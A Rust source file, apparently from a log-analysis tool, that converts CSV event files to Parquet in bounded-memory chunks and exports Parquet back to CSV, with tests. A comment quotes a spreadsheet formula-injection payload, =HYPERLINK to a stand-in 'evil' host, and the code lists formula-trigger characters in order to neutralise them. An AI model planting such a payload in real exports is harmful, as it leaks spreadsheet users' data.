//! CSV of normalized events (the columns of `tokenhound export`, any order,
//! missing ones empty; `time` as RFC 3339 or epoch seconds / ms / µs / ns):
//! read with polars a chunk of records at a time (bounded memory), typed,
//! and rewritten as Parquet so `investigate` treats it like any export.
//! `export --csv` writes the same shape.

use std::path::Path;

use anyhow::{bail, Context as _, Result};
use polars::prelude::{
    col, lit, CsvReadOptions, CsvWriter, DataFrame, DataType, IntoColumn, IntoLazy, NamedFrom, ParquetWriter,
    SerReader, SerWriter, Series, NULL,
};

use super::export::EXPORT_COLUMNS;
use crate::model::EventTime;

fn dtype(name: &str) -> DataType {
    match name {
        "time" | "exp" | "iat" | "nbf" => DataType::Int64,
        "status" | "asn" => DataType::UInt32,
        "bytes" => DataType::UInt64,
        "lat" | "lon" | "radius_km" => DataType::Float64,
        "vouched" => DataType::Boolean,
        _ => DataType::String,
    }
}

/// Read a CSV of normalized events into a typed frame; a bad time names its line.
pub fn read(path: &Path) -> Result<DataFrame> {
    let df = CsvReadOptions::default()
        .with_has_header(true)
        .with_infer_schema_length(Some(0))
        .try_into_reader_with_file_path(Some(path.into()))
        .and_then(|r| r.finish())
        .with_context(|| format!("cannot read CSV {}", path.display()))?;
    typed(df, path, 2)
}

/// A frame of CSV text columns typed as the export's; `line` is the line of its first row.
fn typed(df: DataFrame, path: &Path, line: usize) -> Result<DataFrame> {
    let Ok(times) = df.column("time").and_then(|c| c.str().cloned()) else {
        bail!("{}: no `time` column", path.display());
    };
    let mut us = Vec::with_capacity(times.len());
    for (i, t) in times.iter().enumerate() {
        let t = t.unwrap_or("");
        let parsed = t
            .parse::<f64>()
            .map_err(|_| ())
            .and_then(|n| EventTime::from_epoch_number(n).map_err(|_| ()))
            .or_else(|_| EventTime::parse(t).map_err(|_| ()));
        match parsed {
            Ok(e) => us.push(e.0),
            Err(()) => bail!("{}:{}: time {t:?} is not RFC 3339 nor an epoch number", path.display(), line + i),
        }
    }
    let have: Vec<String> = df.get_column_names().iter().map(|s| s.to_string()).collect();
    let exprs: Vec<_> = EXPORT_COLUMNS
        .iter()
        .filter(|c| **c != "time")
        .map(|c| match (have.iter().any(|h| h == c), *c) {
            (true, "vouched") => col("vouched").str().to_lowercase().eq(lit("true")).alias("vouched"),
            (true, _) => col(*c).cast(dtype(c)),
            (false, _) => lit(NULL).cast(dtype(c)).alias(*c),
        })
        .collect();
    let mut typed =
        df.lazy().select(exprs).collect().with_context(|| format!("{}: bad column values", path.display()))?;
    typed.insert_column(0, Series::new("time".into(), us).into_column())?;
    Ok(typed)
}

/// Records of a CSV read, typed and written at a time.
const CHUNK_RECORDS: usize = 64 * 1024;
/// The longest record (a field may hold newlines inside quotes).
const MAX_RECORD_BYTES: usize = 16 << 20;

/// A CSV input as a Parquet file beside the report, streamed: read
/// [`CHUNK_RECORDS`] records at a time, each chunk typed and written as
/// row groups, so memory does not grow with the file.
pub fn to_parquet(path: &Path, out: &Path) -> Result<()> {
    to_parquet_in_chunks(path, out, CHUNK_RECORDS)
}

fn to_parquet_in_chunks(path: &Path, out: &Path, records: usize) -> Result<()> {
    let f = std::fs::File::open(path).with_context(|| format!("cannot read CSV {}", path.display()))?;
    let mut r = std::io::BufReader::with_capacity(1 << 20, f);
    let mut header = Vec::new();
    read_record(&mut r, &mut header, path, 1)?;
    let mut writer = None;
    let mut line = 2;
    loop {
        let mut chunk = header.clone();
        let mut n = 0;
        while n < records && read_record(&mut r, &mut chunk, path, line + n)? {
            n += 1;
        }
        if n == 0 && writer.is_some() {
            break;
        }
        let df = CsvReadOptions::default()
            .with_has_header(true)
            .with_infer_schema_length(Some(0))
            .into_reader_with_file_handle(std::io::Cursor::new(chunk))
            .finish()
            .with_context(|| format!("cannot read CSV {} (records from line {line})", path.display()))?;
        let mut df = typed(df, path, line)?;
        df.rechunk_mut();
        if writer.is_none() {
            let f = std::fs::File::create(out).with_context(|| format!("cannot create {}", out.display()))?;
            writer = Some(ParquetWriter::new(f).batched(df.schema())?);
        }
        if let Some(w) = writer.as_mut() {
            w.write_batch(&df).with_context(|| format!("cannot write {}", out.display()))?;
        }
        line += n;
        if n < records {
            break;
        }
    }
    if let Some(w) = writer {
        w.finish().with_context(|| format!("cannot write {}", out.display()))?;
    }
    Ok(())
}

/// One CSV record (lines up to one that ends outside quotes) appended to
/// `buf`; false at the end of the input.
fn read_record(r: &mut impl std::io::BufRead, buf: &mut Vec<u8>, path: &Path, line: usize) -> Result<bool> {
    let start = buf.len();
    let mut quoted = false;
    loop {
        let from = buf.len();
        let got = r.read_until(b'\n', buf).with_context(|| format!("cannot read CSV {}", path.display()))?;
        if got == 0 {
            if buf.len() > start && !buf.ends_with(b"\n") {
                buf.push(b'\n');
            }
            return Ok(buf.len() > start);
        }
        quoted ^= buf[from..].iter().filter(|b| **b == b'"').count() % 2 == 1;
        if buf.len() - start > MAX_RECORD_BYTES {
            bail!("{}:{line}: a record longer than {MAX_RECORD_BYTES} bytes (an unclosed quote?)", path.display());
        }
        if !quoted {
            return Ok(true);
        }
    }
}

/// `export --csv`: the Parquet export rewritten as CSV (time in RFC 3339).
pub fn from_parquet(parquet: &Path, out: &Path) -> Result<()> {
    let mut df = super::load::scan(&[parquet.to_path_buf()])?
        .with_column(col("time").cast(DataType::Int64))
        .collect()
        .context("cannot read the export")?;
    let times = df.column("time")?.i64()?.clone();
    let iso: Vec<String> = (0..times.len()).map(|i| EventTime(times.get(i).unwrap_or(0)).to_rfc3339()).collect();
    df.replace("time", Series::new("time".into(), iso).into_column())?;
    defuse_formulas(&mut df)?;
    let f = std::fs::File::create(out).with_context(|| format!("cannot create {}", out.display()))?;
    CsvWriter::new(f)
        .include_header(true)
        .finish(&mut df)
        .with_context(|| format!("cannot write {}", out.display()))?;
    Ok(())
}

/// A cell a spreadsheet would run as a formula (`=`, `+`, `-`, `@`, tab,
/// carriage return first: OWASP's CSV injection list) gets a `'` in front.
/// Every string here came from a client: a user agent of
/// `=HYPERLINK("http://evil/"&A1)` must stay text in the analyst's Excel.
fn defuse_formulas(df: &mut DataFrame) -> Result<()> {
    let names: Vec<String> =
        df.columns().iter().filter(|c| c.dtype() == &DataType::String).map(|c| c.name().to_string()).collect();
    for name in names {
        let ca = df.column(&name)?.str()?.clone();
        if !ca.iter().flatten().any(is_formula) {
            continue;
        }
        let safe: Vec<Option<String>> =
            ca.iter().map(|v| v.map(|s| if is_formula(s) { format!("'{s}") } else { s.to_string() })).collect();
        df.replace(&name, Series::new(name.as_str().into(), safe).into_column())?;
    }
    Ok(())
}

fn is_formula(s: &str) -> bool {
    matches!(s.as_bytes().first(), Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r'))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn times_parse_or_name_their_line() {
        let dir = tempfile::tempdir().unwrap();
        let p = dir.path().join("e.csv");
        std::fs::write(&p, "time,token_id,status\n2026-11-02T08:00:00Z,a|1,200\n1793606401,a|1,404\n").unwrap();
        let df = read(&p).unwrap();
        assert_eq!(df.column("time").unwrap().i64().unwrap().get(1), Some(1_793_606_401_000_000));
        assert_eq!(df.column("status").unwrap().u32().unwrap().get(1), Some(404));
        assert_eq!(df.width(), EXPORT_COLUMNS.len(), "missing columns are added empty");
        std::fs::write(&p, "time,token_id\n2026-11-02T08:00:00Z,a|1\nyesterday,a|1\n").unwrap();
        let e = read(&p).unwrap_err().to_string();
        assert!(e.contains("e.csv:3:") && e.contains("yesterday"), "{e}");
    }

    #[test]
    fn a_csv_streams_in_chunks_with_quoted_newlines_and_line_numbers() {
        let dir = tempfile::tempdir().unwrap();
        let p = dir.path().join("e.csv");
        let mut text = String::from("time,token_id,user_agent,status\n");
        for i in 0..1000 {
            // a quoted user agent with a newline and a quote in it, across chunk boundaries
            let ua = if i % 63 == 0 { format!("\"line one\nline \"\"two\"\" {i}\"") } else { format!("ua{i}") };
            text.push_str(&format!("{},a|{},{ua},200\n", 1_793_606_400 + i, i % 7));
        }
        std::fs::write(&p, &text).unwrap();
        let out = dir.path().join("e.parquet");
        to_parquet_in_chunks(&p, &out, 64).unwrap();
        let mut r = polars::prelude::ParquetReader::new(std::fs::File::open(&out).unwrap());
        assert_eq!(r.get_metadata().unwrap().row_groups.len(), 16, "one row group a chunk");
        let got = r.finish().unwrap();
        let whole = read(&p).unwrap();
        assert_eq!(got.height(), 1000);
        assert!(got.equals_missing(&whole), "chunks give the frame the whole read gives");
        let ua = got.column("user_agent").unwrap().str().unwrap().get(63).unwrap().to_string();
        assert_eq!(ua, "line one\nline \"two\" 63");
        // a bad time in a later chunk names its line
        text.push_str("soon,a|1,x,200\n");
        std::fs::write(&p, &text).unwrap();
        let e = to_parquet_in_chunks(&p, &out, 64).unwrap_err().to_string();
        assert!(e.contains("e.csv:1002:") && e.contains("soon"), "{e}"); // counted in records, as a whole read counts
                                                                         // an unclosed quote cannot make one record of the rest of the file without bound
        let mut r = std::io::Cursor::new(format!("\"{}", "x\n".repeat(MAX_RECORD_BYTES)).into_bytes());
        let e = read_record(&mut r, &mut Vec::new(), &p, 7).unwrap_err().to_string();
        assert!(e.contains("e.csv:7:") && e.contains("unclosed quote"), "{e}");
    }
}
